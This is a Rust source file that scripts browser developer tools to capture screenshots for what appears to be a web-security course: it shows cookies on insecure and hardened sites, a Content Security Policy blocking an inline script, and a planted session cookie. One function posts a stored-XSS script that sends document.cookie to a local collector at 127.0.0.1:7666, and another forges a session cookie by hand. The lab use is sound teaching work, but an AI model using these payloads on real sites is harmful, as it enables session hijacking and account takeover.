//! The panel Console: what scripts see, and what the browser refuses.

use crate::Result;
use crate::devtools::Panel;
use crate::scene::{HARDENED, INSECURE, Scene};

const SIZE: (i64, i64) = (1000, 240);
const ANSWER: &str = "one('.console-user-command-result')";

pub async fn insecure(scene: &Scene<'_>) -> Result<Vec<u8>> {
    scene.student_signs_in(INSECURE).await?;
    document_cookie(scene).await
}

pub async fn hardened(scene: &Scene<'_>) -> Result<Vec<u8>> {
    scene.student_signs_in(HARDENED).await?;
    document_cookie(scene).await
}

async fn document_cookie(scene: &Scene<'_>) -> Result<Vec<u8>> {
    let tools = scene.devtools(Panel::Console, SIZE).await?;
    tools.enter("document.cookie").await?;
    tools.picture(&[ANSWER]).await
}

pub async fn csp_refused(scene: &Scene<'_>) -> Result<Vec<u8>> {
    let base = "http://localhost:7080/only-csp";
    scene.student_signs_in(base).await?;
    post_once(scene, base).await?;
    let tools = scene.devtools(Panel::Console, SIZE).await?;
    scene.page.visit(&format!("{base}/board")).await?;
    let message = "one('.console-error-level', 'inline script')";
    tools.see(message).await?;
    tools.picture(&[message]).await
}

/// Posts the script, unless another walk has done so: the board keeps it.
async fn post_once(scene: &Scene<'_>, base: &str) -> Result<()> {
    let _alone = scene.alone().await;
    scene.page.visit(&format!("{base}/board")).await?;
    if scene
        .page
        .run("document.documentElement.innerHTML.includes('new Image')")
        .await?
    {
        return Ok(());
    }
    let steal = "<script>new Image().src='http://127.0.0.1:7666/collect?cookie='+\
                 encodeURIComponent(document.cookie)</script>";
    scene.page.fill_in("[name=text]", steal).await?;
    Ok(scene.page.follow("main form button").await?)
}

pub async fn planted_id(scene: &Scene<'_>) -> Result<Vec<u8>> {
    scene.page.visit(&format!("{INSECURE}/login")).await?;
    let tools = scene.devtools(Panel::Console, SIZE).await?;
    tools
        .enter("document.cookie = \"session_insecure=1001; path=/\"")
        .await?;
    tools.enter("document.cookie").await?;
    tools.picture(&["all('.console-message-wrapper')"]).await
}
